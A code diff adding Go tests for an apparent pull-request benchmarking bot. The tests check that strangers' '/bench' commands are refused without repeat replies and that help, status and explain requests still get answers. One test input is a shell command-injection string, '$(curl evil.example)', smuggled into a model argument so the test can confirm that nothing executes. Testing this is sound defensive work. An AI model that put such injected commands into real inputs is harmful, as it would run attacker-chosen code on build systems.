@@ -73,7 +73,27 @@ func TestAStrangersCommandIsRefused(t *testing.T) {
 		r.comment(login, "/bench run")
 		assert.Contains(t, r.answer(), "it needs write permission", login)
 	}
+	said := len(r.comments())
+	r.comment("stranger", "/bench retry")
+	r.comment("stranger", "/bench run --model '$(curl evil.example)'")
+	assert.Len(t, r.comments(), said, "who was told once is not told again")
+	assert.Equal(t, []string{"-1", "-1", "-1", "-1", "-1"}, r.reactions())
 	assert.Empty(t, r.executor.works())
+}
+
+func TestAStrangerMayAsk(t *testing.T) {
+	t.Parallel()
+	r := newRig(t, config)
+	r.pullEvent("opened")
+	r.wait(1)
+	for _, c := range []struct{ ask, answer string }{
+		{"help", "/bench run"}, {"status", "**bench**"}, {"explain pr-merge-001", "pr-merge-001"},
+	} {
+		r.comment("stranger", "/bench "+c.ask)
+		assert.Contains(t, r.answer(), c.answer)
+		assert.NotContains(t, r.answer(), "it needs write permission", c.ask)
+	}
+	assert.Len(t, r.executor.works(), 1)
 }
 
 func TestTheSettingsSayWhoMayCommand(t *testing.T) {
